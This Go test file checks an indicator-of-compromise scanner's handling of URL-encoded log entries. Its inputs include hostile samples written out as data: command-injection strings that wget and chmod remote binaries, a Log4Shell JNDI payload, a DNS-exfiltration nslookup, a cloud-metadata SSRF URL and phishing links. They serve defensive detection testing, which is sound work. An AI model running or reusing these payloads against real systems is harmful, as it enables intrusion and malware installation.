package ioc

import "testing"

func TestScanEncodingResidue(t *testing.T) {
	runScanCases(t, Config{}, []scanCase{
		// an escape right before an address or a name is a boundary
		{"path=%5C%5C93.184.216.34%5Cpub%5Cx.dll", []string{"ipv4 93.184.216.34", "dns x.dll unknown-tld"}},
		{`\\93.184.216.34\c$ and \\\\93.184.216.34\\c$`, []string{"ipv4 93.184.216.34", "ipv4 93.184.216.34"}},
		{"msg=login%20from%2091.92.93.94%0A", []string{"ipv4 91.92.93.94"}},
		{"next=%2F%2Fcdn-bad.org%2Fx q=site%3Aevil.com e=ap%40evil.net", []string{"dns cdn-bad.org", "dns evil.com", "dns evil.net"}},
		{"url=http%253A%252F%252Fphish-login.shop%252Fowa q=%25alpha.evil.org", []string{"dns phish-login.shop", "dns alpha.evil.org"}},
		{"nslookup%20x.dnslog-exfil.xyz", []string{"dns x.dnslog-exfil.xyz"}},
		{"00000%00.0.0.0 %2093.184.216.34", []string{"ipv4 93.184.216.34"}},
		// an escape's two digits before a first group of three (an IAM policy URL-encoded in AWS Config)
		{"%5B%22194.150.30.7%2F26%22%2C%2289.248.165.52%2F32%22%5D 1234194.150.30.8", []string{"ipv4 194.150.30.7", "ipv4 89.248.165.52"}},
		{"a%2.b.evil.com 100%decent.com", []string{"dns 2.b.evil.com", "dns decent.com"}},
		// a URL encoded whole is decoded once; an unencoded '&' ends it
		{"url=https%3A%2F%2Flogin-verify.top%2Fowa%2F&lang=en", []string{"url https://login-verify.top/owa/"}},
		{"country=$(wget%20http%3A%2F%2F194.38.20.199%2Fbins%2Farm7%20-O%20/tmp/a) Referer%3a%20http%3a%2f%2fseo.evil.xyz%2fr%3fa%3d1%0d%0aUser-Agent", []string{
			"url http://194.38.20.199/bins/arm7", "url http://seo.evil.xyz/r?a=1"}},
		{"q=%7B%22url%22%3A%22http%3A%2F%2F77.91.68.52%2Fx.jsp%22%7D q=%24%7Bjndi%3Aldap%3A%2F%2F45.155.205.233%3A1389%2FExploit%7D", []string{
			"url http://77.91.68.52/x.jsp", "url ldap://45.155.205.233:1389/Exploit unsupported-scheme", "ipv4 45.155.205.233"}},
		// ...inside a URL too: a redirector's or an OAuth request's target
		{"https://www.google.com/url?sa=t&url=https%3A%2F%2Fevil-dl.online%2Fwin&usg=x https://l.facebook.com/l.php?u=https%3A%2F%2Fdocs-viewer.net%2Fd%3Fa%3D1&h=AT0", []string{
			"url https://www.google.com/url?sa=t&url=https%3A%2F%2Fevil-dl.online%2Fwin&usg=x", "url https://evil-dl.online/win",
			"url https://l.facebook.com/l.php?u=https%3A%2F%2Fdocs-viewer.net%2Fd%3Fa%3D1&h=AT0", "url https://docs-viewer.net/d?a=1"}},
		{"/?ref=https%3a%2f%2ft.co%2FAbC123xYz", []string{"url https://t.co/AbC123xYz"}},
		{"u=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F", []string{"url http://169.254.169.254/latest/meta-data/ link-local"}},
		// decoded once: "%2525" is the "%25" the URL itself holds
		{"r=https%3A%2F%2Fevil.com%2Fa%20b%3Fq%3D1%2525", []string{"url https://evil.com/a%20b?q=1%25"}},
		{"x=ldap%3A%2F%2F5.188.206.14%2Fa", []string{"url ldap://5.188.206.14/a unsupported-scheme", "ipv4 5.188.206.14"}},
		{"x=%3A%2F%2Fevil.com y=h%3A%2F%2Fevil.net", []string{"dns evil.com", "dns evil.net"}},
		{"q=%C3%A9vil.com", []string{"dns a9vil.com"}}, // not a separator: the digits stay
		// glued after an escape, a URL ends at an encoded space or quote
		{"$(cd%20/tmp;%20wget%20http://45.141.84.120/bins/mips;%20chmod%20777%20mips)", []string{"url http://45.141.84.120/bins/mips"}},
		{"q=%22http://evil.com/a%22", []string{"url http://evil.com/a"}},
		{"see http://evil.com/a%20b.pdf", []string{"url http://evil.com/a%20b.pdf"}},
		// IIS writes spaces as '+': "; like" ends a URL
		{"Feedly/1.0+(+http://www.feedly.com/fetcher.html;+like+FeedFetcher-Google)", []string{"url http://www.feedly.com/fetcher.html"}},
		// a comma in a path ends a CSV field; in a query it is kept
		{"http://cdn-bad.org/x/y.php,url,2024-04-28,high", []string{"url http://cdn-bad.org/x/y.php"}},
		{"http://x.com/?ids=1,2,3 https://x.com/a, b", []string{"url http://x.com/?ids=1,2,3", "url https://x.com/a"}},
	})
}

func TestCheckEncodedURL(t *testing.T) {
	for _, c := range []struct{ in, value, reason string }{
		{"https%3A%2F%2Fevil.com%2Fx%3Fa%3D1", "https://evil.com/x?a=1", ""},
		{"HTTP%3a%2f%2f10.0.0.1%2F", "http://10.0.0.1/", ReasonPrivate},
		{"%3A%2F%2Fevil.com", "%3A%2F%2Fevil.com", ReasonInvalid},
		{"https%3A%2Fevil.com", "https%3A%2Fevil.com", ReasonInvalid},
	} {
		if v, r := Check(URL, c.in, nil); v != c.value || r != c.reason {
			t.Errorf("Check(url, %q) = %q, %q; want %q, %q", c.in, v, r, c.value, c.reason)
		}
	}
	if got := Classify("https%3A%2F%2Fevil.com%2Fx"); got != URL {
		t.Errorf("Classify of an encoded URL = %v, want url", got)
	}
}
